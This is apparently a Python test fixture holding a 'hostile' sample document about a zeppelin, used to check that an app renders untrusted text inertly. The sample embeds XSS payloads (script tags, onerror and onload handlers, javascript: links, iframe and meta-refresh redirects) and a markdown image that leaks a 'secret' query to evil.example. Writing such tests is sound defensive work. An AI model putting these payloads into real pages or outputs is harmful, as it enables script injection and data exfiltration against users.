"""A document full of what must stay text."""

HOSTILE_FILE = "zeppelin.txt"
HOSTILE_QUESTION = "Who flies the zeppelin?"
HOSTILE_TEXT = """\
Quarterly zeppelin review <script>document.title = "owned"</script>

Who flies the zeppelin?

The zeppelin is flown by <img src=x onerror=alert(1)> the captain. \
The zeppelin is painted by ![leak](http://evil.example/leak.png?q=secret) the crew. \
The zeppelin belongs to [the board](javascript:alert(2)) and to <svg onload=alert(3)> nobody else.

The zeppelin lands on Fridays, says <a href="http://evil.example">the board</a> in :red[red] and $x^2$ :smile:.

<iframe src="http://evil.example/frame"></iframe> <style>* { display: none }</style> <meta http-equiv=refresh \
content="0;url=http://evil.example"> is how the zeppelin crew signs its letters.
"""
PAYLOADS = ("<img src=x onerror=alert(1)>", "![leak](http://evil.example/leak.png?q=secret)", "<svg onload=alert(3)>")
HOSTILE_WORDS = "<img src=x onerror=alert(9)> ![q](http://evil.example/q.png) **who** <script>alert(8)</script> :smile:"
